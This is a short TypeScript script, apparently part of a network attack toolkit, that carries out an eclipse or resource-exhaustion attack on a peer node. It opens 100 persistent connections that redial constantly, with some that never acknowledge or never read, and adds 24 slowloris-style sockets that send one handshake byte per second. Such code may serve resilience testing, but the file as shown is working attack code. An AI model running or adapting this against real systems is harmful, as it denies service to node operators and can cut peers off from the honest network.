// Takes as many connections of a peer as it gets: `eclipse-process <host> <port> <from>`.
import { connect } from 'node:net'
import { HostilePeer } from '../attack/hostile-peer.js'

const PEERS = 100
const DRIPPING = 24
const BEAT_MS = 5_000
const REDIAL_MS = 100

const [host = '', port = '', from = ''] = process.argv.slice(2)

/** Half of the connections acknowledge nothing, and a quarter reads nothing. */
async function holdOne(number: number): Promise<void> {
  for (;;) {
    const options = { host, from, reads: number % 2 === 0 }
    const peer = await HostilePeer.dial(Number(port), options).catch(() => undefined)
    if (peer !== undefined) {
      if (number % 4 === 1) peer.pause()
      const beating = setInterval(() => peer.heartbeat(), BEAT_MS)
      await peer.closed()
      clearInterval(beating)
    }
    await new Promise(resolve => setTimeout(resolve, REDIAL_MS))
  }
}

/** Sends a byte of a handshake now and then. */
function drip(): void {
  const socket = connect({ host, port: Number(port), localAddress: from })
  const dripping = setInterval(() => socket.write(Buffer.of(20)), 1_000)
  socket
    .on('error', () => {})
    .on('close', () => {
      clearInterval(dripping)
      setTimeout(drip, REDIAL_MS)
    })
}

for (let number = 0; number < PEERS; number++) void holdOne(number)
for (let number = 0; number < DRIPPING; number++) drip()
